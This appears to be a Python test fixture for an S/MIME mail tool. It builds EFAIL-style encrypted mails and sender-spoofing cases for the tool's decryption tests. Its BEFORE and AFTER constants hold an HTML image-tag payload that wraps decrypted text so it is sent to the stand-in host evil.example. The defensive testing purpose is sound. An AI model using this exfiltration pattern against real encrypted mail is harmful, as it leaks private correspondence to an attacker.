"""Encrypted mails that an attacker made of ones that he could not read (EFAIL), or that play with who wrote them.

``python -m tests.spoofs`` does not write them: they are for a key that is here alone.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from tests.spoofs.envelopes import Seal
from tests.spoofs.mime import multipart, sent_by

if TYPE_CHECKING:
    from smime_agent.x509 import Certificate

MALLORY: Final = "mallory@evil.example"
SECRET: Final = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe secret is 4711.\r\n"
BEFORE: Final = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
AFTER: Final = b'Content-Type: text/html\r\n\r\n">'


@dataclass(frozen=True, slots=True)
class Sealed:
    """An encrypted mail, and all that ``decrypt`` may make of it.

    ``opens`` is what comes out, none where nothing may; ``code`` is the error, a reason or a note, and empty where
    there is nothing to be said. ``parts`` are those that ``--part`` decrypts alone, each to ``SECRET``.
    """

    name: str
    mail: bytes
    exit_code: int
    code: str
    why: str
    opens: bytes | None = None
    parts: tuple[str, ...] = ()
    is_trusted: bool = False
    is_authenticated: bool = True


@dataclass(frozen=True)
class Envelopes:
    """What the attacker has: a secret that was encrypted for the victim, and the victim's certificate."""

    bob: Certificate

    @property
    def seal(self) -> Seal:
        return Seal((self.bob,))

    @property
    def secret(self) -> bytes:
        """The part with the secret in it."""
        return self.seal.entity(SECRET)

    def around(self, *parts: bytes, kind: bytes = b"multipart/mixed", sender: str = "alice@example.org") -> bytes:
        """A mail of these parts."""
        return sent_by(sender) + multipart(kind, *parts)
